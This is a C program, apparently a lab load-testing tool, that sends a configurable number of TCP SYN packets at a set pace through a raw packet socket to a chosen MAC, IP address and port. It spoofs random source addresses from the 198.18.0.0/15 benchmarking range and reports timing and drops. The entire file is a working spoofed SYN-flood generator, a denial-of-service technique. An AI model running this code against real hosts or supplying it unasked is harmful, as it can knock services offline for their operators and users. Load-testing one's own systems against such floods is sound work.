/*
 * Floods somebody who listens with SYNs from addresses that nobody has: 198.18.0.0/15 (RFC 2544).
 *
 * usage: flood INTERFACE MAC ADDRESS PORT COUNT MS     COUNT SYNs at an even pace within MS milliseconds; prints how long it took
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct frame {
	struct ether_header ethernet;
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint64_t state = 88172645463325252ull;

/* Marsaglia's xorshift: the same flood each time. */
static uint32_t any(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return (uint32_t)(state >> 16);
}

static uint32_t sum(const void *bytes, size_t length)
{
	uint32_t total = 0;
	for (size_t at = 0; at < length; at += 2) {
		uint16_t word;
		memcpy(&word, (const char *)bytes + at, 2);
		total += word;
	}
	return total;
}

static uint16_t folded(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return (uint16_t)~total;
}

static void spoof(struct frame *frame)
{
	frame->ip.saddr = htonl(0xc6120000 | (any() & 0x1ffff));
	frame->ip.check = 0;
	frame->ip.check = folded(sum(&frame->ip, sizeof frame->ip));
	frame->tcp.source = htons((uint16_t)(1024 + any() % 60000));
	frame->tcp.seq = any();
	frame->tcp.check = 0;
	uint32_t pseudo = sum(&frame->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(sizeof frame->tcp);
	frame->tcp.check = folded(pseudo + sum(&frame->tcp, sizeof frame->tcp));
}

static double now_ms(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return (double)now.tv_sec * 1e3 + (double)now.tv_nsec / 1e6;
}

int main(int argc, char **argv)
{
	struct frame frame = {.ethernet.ether_type = htons(ETHERTYPE_IP)};
	uint8_t *mac = frame.ethernet.ether_dhost;
	if (argc != 7 || sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6)
		return 2;
	frame.ethernet.ether_shost[0] = 2;
	frame.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
	frame.ip.tot_len = htons(sizeof frame.ip + sizeof frame.tcp);
	inet_pton(AF_INET, argv[3], &frame.ip.daddr);
	frame.tcp = (struct tcphdr){.dest = htons((uint16_t)atoi(argv[4])), .doff = 5, .syn = 1, .window = htons(64240)};
	int count = atoi(argv[5]), lost = 0;
	double length_ms = atof(argv[6]), start = now_ms();
	struct sockaddr_ll to = {
		.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_ifindex = (int)if_nametoindex(argv[1])};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (void *)&to, sizeof to)) {
		perror("flood");
		return 1;
	}
	for (int sent = 0; sent < count; sent++) {
		spoof(&frame);
		if (send(fd, &frame, sizeof frame, 0) < 0) {
			if (errno != ENOBUFS) {
				perror("flood");
				return 1;
			}
			lost++;
		}
		while (sent % 64 == 0 && now_ms() - start < length_ms * sent / count)
			usleep(100);
	}
	printf("%d SYNs in %.0f ms, %d of them found no room\n", count, now_ms() - start, lost);
	return 0;
}
